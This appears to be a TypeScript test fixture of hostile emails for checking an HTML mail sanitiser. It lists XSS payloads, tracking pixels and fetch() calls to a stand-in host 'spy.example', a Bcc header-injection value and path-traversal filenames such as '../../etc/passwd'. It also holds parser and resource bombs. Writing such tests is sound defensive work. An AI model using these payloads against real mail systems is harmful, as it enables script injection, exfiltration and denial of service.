import { source } from './outside-mails.fixture.ts';

/** Everything outside that a hostile mail tries to reach. */
export const SPY = 'spy.example';

const html = (body: string, more: Readonly<Record<string, string>> = {}) =>
  source({ 'Content-Type': 'text/html; charset=utf-8', ...more }, body);

const multipart = (boundary: string, parts: readonly string[], kind = 'mixed') =>
  source({ 'Content-Type': `multipart/${kind}; boundary="${boundary}"` }, parts.join('\r\n'));

/** Texts that would run something or ask another server for something. */
const TEXTS = [
  '<script>fetch("https://spy.example")</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror="fetch(`https://spy.example`)">',
  '<img src="https://spy.example/1.gif" width=1 height=1>',
  '<img srcset="https://spy.example/1.gif 1x">',
  '<img src="//spy.example/2.gif">',
  '<img src="\\\\spy.example\\share\\3.gif">',
  '<img src="/prod-api/api/file/Image/annexpic/0123456789.png">',
  '<img src="cid:missing@spy.example">',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+">',
  '<svg><script>alert(1)</script><image href="https://spy.example/4"/></svg>',
  '<math><maction actiontype="statusline" xlink:href="https://spy.example">x</maction></math>',
  '<iframe src="https://spy.example"></iframe><object data="https://spy.example"></object>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<embed src="https://spy.example"><applet code="https://spy.example"></applet>',
  '<form action="https://spy.example"><input name=password><button>go</button></form>',
  '<link rel=stylesheet href="https://spy.example/5"><base href="https://spy.example/">',
  '<style>@import "https://spy.example/6"; body{background:url(https://spy.example/7)}</style>',
  '<p style="background:url(https://spy.example/8);position:fixed;top:0">x</p>',
  '<table background="https://spy.example/9"><tr><td background="https://spy.example/a">x</table>',
  '<video poster="https://spy.example/b" src="https://spy.example/c" autoplay></video>',
  '<audio src="https://spy.example/d" autoplay></audio><picture><source srcset="https://spy.example/e"></picture>',
  '<meta http-equiv="refresh" content="0;url=https://spy.example">',
  '<a href="javascript:alert(1)">x</a><a href="  JaVaScRiPt:alert(1)">y</a><a href="vbscript:x">z</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<body onload="alert(1)"><div onmouseover="alert(1)">x</div>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<textarea><img title="</textarea><img src=https://spy.example/f onerror=alert(1)>"></textarea>',
  '<!--[if mso]><img src="https://spy.example/g"><![endif]-->',
  '<p>\0<scr\0ipt>alert(1)</scr\0ipt></p>',
] as const;

/** Mails that are built to break whoever reads them. */
const SHAPES: readonly (string | Buffer)[] = [
  // Charsets that are wrong, unknown or lie.
  html('caf\xe9 \xff\xfe', { 'Content-Type': 'text/html; charset=utf-8' }),
  html('text', { 'Content-Type': 'text/html; charset=x-unknown-9' }),
  html('+ADw-script+AD4-alert(1)+ADw-/script+AD4-', { 'Content-Type': 'text/html; charset=utf-7' }),
  Buffer.concat([
    Buffer.from(source({ 'Content-Type': 'text/plain; charset=utf-16' }, '')),
    Buffer.from([0xd8, 0x00, 0x41]),
  ]),
  source({ 'Content-Type': 'text/html', 'Content-Transfer-Encoding': 'base64' }, '!!!not base64###'),
  source({ 'Content-Type': 'text/plain', 'Content-Transfer-Encoding': 'quoted-printable' }, '=ZZ=4=\r\n=0'),
  // Boundaries that are missing, never closed, or the same at each level.
  source({ 'Content-Type': 'multipart/mixed' }, '--\r\n\r\nx'),
  multipart('never', ['--never', 'Content-Type: text/plain', '', 'text']),
  multipart('same', [
    '--same',
    'Content-Type: multipart/mixed; boundary=same',
    '',
    '--same',
    '',
    'x',
    '--same--',
  ]),
  multipart('b'.repeat(5_000), [`--${'b'.repeat(5_000)}`, '', 'x']),
  // Bombs of parts, of levels, of attachments.
  multipart(
    'many',
    Array.from({ length: 20_000 }, () => '--many\r\nContent-Type: text/plain\r\n\r\nx'),
  ),
  source(
    { 'Content-Type': 'multipart/mixed; boundary=l0' },
    Array.from(
      { length: 3_000 },
      (_, at) => `--l${at}\r\nContent-Type: multipart/mixed; boundary=l${at + 1}\r\n`,
    ).join('\r\n'),
  ),
  multipart(
    'files',
    Array.from(
      { length: 60 },
      (_, at) => `--files\r\nContent-Disposition: attachment; filename=${at}.txt\r\n\r\n${at}`,
    ),
  ),
  multipart('nested', [
    '--nested',
    'Content-Type: message/rfc822',
    '',
    html('<script>alert(1)</script>'),
    '--nested--',
  ]),
  // Headers that are huge, broken, or carry further ones.
  source({ Subject: `=?utf-8?B?${Buffer.from(`x\r\nBcc: evil@${SPY}`).toString('base64')}?=` }, 'text'),
  source({ From: `"${'a'.repeat(100_000)}" <a@b.example>` }, 'text'),
  source(
    { From: '<<<>>>,,,;;;@@', To: '@@@@, <>, "unclosed', Cc: `undisclosed:${'a@b.example,'.repeat(3_000)};` },
    'text',
  ),
  source({ 'X-Large': 'x'.repeat(2_000_000) }, 'text'),
  source(Object.fromEntries(Array.from({ length: 5_000 }, (_, at) => [`X-${at}`, 'x'])), 'text'),
  source({ Date: 'Thu, 99 Foo 99999 99:99:99 +9999', 'Message-ID': '<'.repeat(1_000) }, 'text'),
  '\r\n\r\n',
  'no header at all',
  // Texts that are deep, long, or of one letter over and over.
  html('<div>'.repeat(5_000)),
  html(`<p ${'a='.repeat(50_000)}>x</p>`),
  html(`<p>${'&lt;'.repeat(260_000)}</p>`),
  html('<'.repeat(100_000)),
  source({ 'Content-Type': 'text/plain' }, 'a.'.repeat(500_000)),
  // Names of files that lead elsewhere or look like others.
  multipart('names', [
    ...[
      '../../etc/passwd',
      '..\\..\\run.txt',
      'a\u202Etxt.exe',
      '.',
      'con.txt',
      `${'n'.repeat(900)}.txt`,
    ].flatMap((name) => [
      '--names',
      `Content-Disposition: attachment; filename*=utf-8''${encodeURIComponent(name)}`,
      '',
      'x',
    ]),
    '--names--',
  ]),
  multipart(
    'fake',
    [
      '--fake',
      'Content-Type: image/png; name=fake.png',
      'Content-ID: <fake@x>',
      '',
      '<svg onload="alert(1)"/>',
      '--fake',
      'Content-Type: text/html',
      '',
      '<img src="cid:fake@x">',
      '--fake--',
    ],
    'related',
  ),
];

/** Hostile mails; nobody's text but the sender's own comes from them. */
export const HOSTILE: readonly (string | Buffer)[] = [...TEXTS.map((text) => html(text)), ...SHAPES];

/** A text that takes far longer than a mail may. */
export const ENDLESS = html('<div>'.repeat(200_000));

/** The same texts in other wrappings: what a cleaner sees late, in pieces, or in another spelling. */
export const WRAPPED: readonly (string | Buffer)[] = TEXTS.flatMap((text, at) => {
  const other = TEXTS[(at * 7 + 3) % TEXTS.length] ?? '';
  const base64 = Buffer.from(text)
    .toString('base64')
    .replace(/(.{3})/g, '$1\r\n');
  const quoted = [...Buffer.from(text)]
    .map((byte) => `=${byte.toString(16).toUpperCase().padStart(2, '0')}`)
    .join('=\r\n');
  const part = `Content-Type: text/html; charset=utf-8\r\n\r\n${text}`;
  return [
    html(base64, { 'Content-Transfer-Encoding': 'base64' }),
    html(quoted, { 'Content-Transfer-Encoding': 'quoted-printable' }),
    multipart('alt', ['--alt', 'Content-Type: text/plain', '', 'x', '--alt', part, '--alt--'], 'alternative'),
    // Cut in the middle, with another text behind it.
    html(text.slice(0, (text.length >> 1) + (at % 5)) + other),
    Buffer.concat([
      Buffer.from(source({ 'Content-Type': 'text/html; charset=utf-16le' }, '')),
      Buffer.from(text.toUpperCase(), 'utf16le'),
    ]),
  ];
});
